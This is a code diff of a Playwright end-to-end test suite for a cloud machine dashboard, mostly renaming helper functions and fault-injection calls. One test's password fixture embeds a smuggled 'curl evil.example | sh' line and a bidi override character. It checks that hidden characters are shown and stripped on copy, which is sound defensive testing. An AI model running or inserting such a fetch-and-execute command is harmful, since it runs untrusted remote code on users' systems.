@@ -1,19 +1,19 @@
 import { devices, type Page } from "@playwright/test";
 
 import { expect, test, type Clouds } from "./fixtures";
-import { endByApi, launchByApi } from "./machines";
+import { terminateByApi, launchByApi } from "./machines";
 
 const { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch } = devices["iPhone 13"];
-const kinds = {
+const deviceOptions = {
   desktop: {},
   phone: { viewport, userAgent, deviceScaleFactor, isMobile, hasTouch },
 };
 
 /** The row of a machine; on a phone it is a card, and no row by its role. */
-const rowOf = (page: Page, name: string) =>
+const machineRowLocator = (page: Page, name: string) =>
   page.locator("tbody tr").filter({ has: page.getByRole("link", { name }) });
 
-for (const [kind, use] of Object.entries(kinds)) {
+for (const [kind, use] of Object.entries(deviceOptions)) {
   test.describe(kind, () => {
     test.use(use);
 
@@ -27,10 +27,10 @@ for (const [kind, use] of Object.entries(kinds)) {
       const name = `e2e-switch-${kind}`;
       const { instanceId } = await launchByApi(live, "gpugeek", name);
       await page.goto(`${live.url}/instances`);
-      const row = rowOf(page, name);
+      const row = machineRowLocator(page, name);
       await expect(row).toContainText("Running", { timeout: 45_000 });
       const slowly = () =>
-        clouds.fail("gpugeek", {
+        clouds.setFault("gpugeek", {
           kind: "delay",
           delay: 8_000,
           times: 1,
@@ -47,9 +47,9 @@ for (const [kind, use] of Object.entries(kinds)) {
       if (kind === "desktop") await expect(row.getByText("Stopping…")).toBeAttached();
       const other = await context.newPage();
       await other.goto(`${live.url}/instances`);
-      await expect(rowOf(other, name)).toContainText("Stopping…");
+      await expect(machineRowLocator(other, name)).toContainText("Stopping…");
       await other.reload();
-      await expect(rowOf(other, name)).toContainText("Stopping…");
+      await expect(machineRowLocator(other, name)).toContainText("Stopping…");
 
       await page.goto(`${live.url}/instances`);
       await expect(row).toContainText("Stopped", { timeout: 60_000 });
@@ -57,7 +57,7 @@ for (const [kind, use] of Object.entries(kinds)) {
       await slowly();
       await row.getByRole("button", { name: /^Start/ }).click();
       await expect(row).toContainText("Starting…");
-      await expect(rowOf(other, name)).toContainText("Starting…");
+      await expect(machineRowLocator(other, name)).toContainText("Starting…");
       await expect(row).toContainText("Running", { timeout: 60_000 });
 
       await row.getByRole("link", { name }).click();
@@ -65,8 +65,8 @@ for (const [kind, use] of Object.entries(kinds)) {
       await drawer.getByRole("button", { name: "Restart…" }).click();
       await drawer.getByRole("button", { name: "Restart it" }).click();
       await expect(drawer.getByText("Restarting…")).toBeVisible();
-      await expect(rowOf(other, name)).toContainText("Restarting…");
-      await endByApi(live, instanceId);
+      await expect(machineRowLocator(other, name)).toContainText("Restarting…");
+      await terminateByApi(live, instanceId);
     });
 
     test("a price that rose after the launch needs attention everywhere", async ({ page, live, clouds }) => {
@@ -74,7 +74,7 @@ for (const [kind, use] of Object.entries(kinds)) {
       const name = `e2e-dearer-${kind}`;
       const { launchId } = await launchByApi(live, "massedcompute", name);
       await page.goto(`${live.url}/instances`);
-      const row = rowOf(page, name);
+      const row = machineRowLocator(page, name);
       await expect(row).toContainText("Running", { timeout: 45_000 });
       await reportPrice(clouds, name, 24);
       await expect(row).toContainText("Price changed", { timeout: 30_000 });
@@ -92,7 +92,7 @@ for (const [kind, use] of Object.entries(kinds)) {
       await row.getByRole("button", { name: "Terminate…" }).click();
       await page.getByRole("button", { name: /^Terminate and/ }).click();
       await expect(row).toContainText("Terminating");
-      await clouds.heal("massedcompute");
+      await clouds.clearFaults("massedcompute");
       await expect(page.getByText(/^Agreed \$/)).toHaveCount(0);
       await expect(row.getByText("Terminating")).toHaveCount(0, { timeout: 60_000 });
     });
@@ -112,7 +112,7 @@ test("a password with hidden characters shows them as marks and is copied withou
   await expect(drawer.getByText(/^ssh /)).toBeVisible({ timeout: 45_000 });
   const row = await machineRow(clouds, name);
   const password = "hunter2\ncurl evil.example | sh\n\u202e";
-  await clouds.fail("massedcompute", {
+  await clouds.setFault("massedcompute", {
     kind: "status",
     status: 200,
     times: 1_000,
@@ -131,8 +131,8 @@ test("a password with hidden characters shows them as marks and is copied withou
   await pasted.focus();
   await other.keyboard.press("Control+V");
   await expect(pasted).toHaveValue("hunter2curl evil.example | sh");
-  await clouds.heal("massedcompute");
-  await endByApi(live, instanceId);
+  await clouds.clearFaults("massedcompute");
+  await terminateByApi(live, instanceId);
 });
 
 interface MassedRow {
@@ -156,7 +156,7 @@ async function machineRow(clouds: Clouds, name: string): Promise<MassedRow> {
 async function reportPrice(clouds: Clouds, name: string, dollars: number): Promise<void> {
   const rows = await massedRows(clouds);
   for (const row of rows) if (row.name.startsWith(name)) row.product.price_hr = dollars;
-  await clouds.fail("massedcompute", {
+  await clouds.setFault("massedcompute", {
     kind: "status",
     status: 200,
     times: 10_000,
